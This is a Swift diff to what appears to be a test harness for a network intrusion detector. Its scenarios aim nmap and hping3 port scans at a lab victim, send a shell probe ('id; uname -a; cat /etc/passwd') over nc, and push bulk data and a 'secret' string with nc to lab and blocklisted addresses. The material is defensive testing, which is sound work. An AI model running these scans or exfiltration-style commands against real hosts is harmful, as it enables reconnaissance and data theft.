@@ -18,14 +18,20 @@ public struct EvalScenario: Sendable {
     public let expected: String?
     /// Tools it needs (skipped, and said so, when one is missing).
     public let tools: [String]
+    /// What the expected alert's response does to the attacker's traffic
+    /// (nil: nothing to measure at the target), and where the attacker's
+    /// packets arrive when they get through.
+    public let response: Delivery.Response?
+    public let target: Receiver.Target?
     public let play: @Sendable (EvalPods) throws -> Void
 
-    public static func attack(_ name: String, _ expected: String, tools: [String], _ play: @escaping @Sendable (EvalPods) throws -> Void) -> EvalScenario {
-        EvalScenario(name: name, expected: expected, tools: tools, play: play)
+    public static func attack(_ name: String, _ expected: String, tools: [String], response: Delivery.Response? = nil,
+                              target: Receiver.Target? = nil, _ play: @escaping @Sendable (EvalPods) throws -> Void) -> EvalScenario {
+        EvalScenario(name: name, expected: expected, tools: tools, response: response, target: target, play: play)
     }
 
     public static func benign(_ name: String, tools: [String], _ play: @escaping @Sendable (EvalPods) throws -> Void) -> EvalScenario {
-        EvalScenario(name: name, expected: nil, tools: tools, play: play)
+        EvalScenario(name: name, expected: nil, tools: tools, response: nil, target: nil, play: play)
     }
 }
 
@@ -34,38 +40,61 @@ extension EvalScenario {
         try pods.lab.inPod(pods.attacker, ["nmap", "-Pn", "-n", "--max-retries", "0", "--host-timeout", "8s"] + arguments, check: false)
     }
 
+    /// The payload, and a second later the same again, as a tunnel keeps
+    /// talking: the block (in force a few ms after the first) has something
+    /// to stop. nc closes its side once its input ends.
     static func sendToPort80(_ pods: EvalPods, _ printfFormat: String) throws {
-        try pods.lab.inPod(pods.attacker, ["sh", "-c", "printf '\(printfFormat)' | nc -q 1 -w 2 \(Lab.internetAddress) 80"], check: false)
+        try pods.lab.inPod(pods.attacker, ["sh", "-c", "(printf '\(printfFormat)'; sleep 1; printf '\(printfFormat)') | nc -q 1 -w 3 \(Lab.internetAddress) 80"],
+                           check: false)
     }
 
     /// Every scenario, attacks first.
     public static let all: [EvalScenario] = [
-        attack("nmap connect scan, vertical", "port_scan", tools: ["nmap"]) { try nmap($0, ["-sT", "-p", "1-1000", $0.victim.ipv4]) },
-        attack("nmap SYN scan, vertical", "port_scan", tools: ["nmap"]) { try nmap($0, ["-sS", "-p", "1-1000", $0.victim.ipv4]) },
-        attack("nmap SYN scan in 8-byte fragments", "port_scan", tools: ["nmap"]) { try nmap($0, ["-sS", "-f", "-p", "1-500", $0.victim.ipv4]) },
-        attack("nmap SYN scan, slower timing (-T2)", "port_scan", tools: ["nmap"]) { try nmap($0, ["-sS", "-T2", "-p", "1-40", $0.victim.ipv4]) },
-        attack("nmap connect sweep, horizontal (/24, port 80)", "port_scan", tools: ["nmap"]) {
+        attack("nmap connect scan, vertical", "port_scan", tools: ["nmap"], response: .quarantine, target: .victim) {
+            try nmap($0, ["-sT", "-p", "1-1000", $0.victim.ipv4])
+        },
+        attack("nmap SYN scan, vertical", "port_scan", tools: ["nmap"], response: .quarantine, target: .victim) {
+            try nmap($0, ["-sS", "-p", "1-1000", $0.victim.ipv4])
+        },
+        attack("nmap SYN scan in 8-byte fragments", "port_scan", tools: ["nmap"], response: .quarantine, target: .victim) {
+            try nmap($0, ["-sS", "-f", "-p", "1-500", $0.victim.ipv4])
+        },
+        attack("nmap SYN scan, slower timing (-T2)", "port_scan", tools: ["nmap"], response: .quarantine, target: .victim) {
+            try nmap($0, ["-sS", "-T2", "-p", "1-40", $0.victim.ipv4])
+        },
+        attack("nmap connect sweep, horizontal (/24, port 80)", "port_scan", tools: ["nmap"], response: .quarantine,
+               target: .node(network: "198.19.1.0/24")) {
             try nmap($0, ["-sT", "-T5", "-p", "80", "198.19.1.0/24"])
         },
-        attack("nmap UDP scan", "port_scan", tools: ["nmap"]) { try nmap($0, ["-sU", "-T5", "-p", "1-200", $0.victim.ipv4]) },
-        attack("hping3 SYN sweep of 150 ports", "port_scan", tools: ["hping3"]) { pods in
+        attack("nmap UDP scan", "port_scan", tools: ["nmap"], response: .quarantine, target: .victim) {
+            try nmap($0, ["-sU", "-T5", "-p", "1-200", $0.victim.ipv4])
+        },
+        attack("hping3 SYN sweep of 150 ports", "port_scan", tools: ["hping3"], response: .quarantine, target: .victim) { pods in
             // -n: no reverse lookup, which would hang on a pod without DNS.
             try pods.lab.inPod(pods.attacker, Shell.withSignalsUnblocked(
                 ["timeout", "-s", "KILL", "5", "hping3", "-n", "-S", "-p", "++1", "-c", "150", "-i", "u3000", pods.victim.ipv4]), check: false)
         },
-        attack("SSH banner to port 80", "protocol_mismatch", tools: ["nc"]) { try sendToPort80($0, "SSH-2.0-OpenSSH_9.2\\r\\n") },
-        attack("TLS ClientHello to port 80", "protocol_mismatch", tools: ["nc"]) {
+        attack("SSH banner to port 80", "protocol_mismatch", tools: ["nc"], response: .block, target: .internet(Lab.internetAddress)) {
+            try sendToPort80($0, "SSH-2.0-OpenSSH_9.2\\r\\n")
+        },
+        attack("TLS ClientHello to port 80", "protocol_mismatch", tools: ["nc"], response: .block,
+               target: .internet(Lab.internetAddress)) {
             try sendToPort80($0, "\\026\\003\\001\\000\\245\\001\\000\\000\\241\\003\\003\\125\\125\\125\\125\\125\\125\\125\\125")
         },
-        attack("shell commands to port 80", "protocol_mismatch", tools: ["nc"]) { try sendToPort80($0, "id; uname -a; cat /etc/passwd\\n") },
-        attack("bulk push to the internet after a quiet warm-up", "exfiltration", tools: ["nc"]) { pods in
+        attack("shell commands to port 80", "protocol_mismatch", tools: ["nc"], response: .block,
+               target: .internet(Lab.internetAddress)) {
+            try sendToPort80($0, "id; uname -a; cat /etc/passwd\\n")
+        },
+        attack("bulk push to the internet after a quiet warm-up", "exfiltration", tools: ["nc"], response: .block,
+               target: .internet(Lab.internetAddress)) { pods in
             for _ in 0..<10 {
                 try pods.lab.inPod(pods.attacker, ["sh", "-c", "head -c 2000 /dev/zero | nc -q 0 -w 1 \(Lab.internetAddress) 9000"], check: false)
                 usleep(500_000)
             }
             try pods.lab.inPod(pods.attacker, ["sh", "-c", "head -c 200000000 /dev/zero | nc -q 0 -w 5 \(Lab.internetAddress) 9000"], check: false)
         },
-        attack("connection to a blocklisted address", "blocklist_hit", tools: ["nc"]) { pods in
+        attack("connection to a blocklisted address", "blocklist_hit", tools: ["nc"], response: .blockedFromStart,
+               target: .internet(EvalPods.blockedAddress)) { pods in
             try pods.lab.inPod(pods.attacker, ["sh", "-c", "echo secret | nc -q 1 -w 2 \(EvalPods.blockedAddress) 8088"], check: false)
         },
         benign("HTTP/1.1 requests on port 80", tools: ["curl"]) { pods in
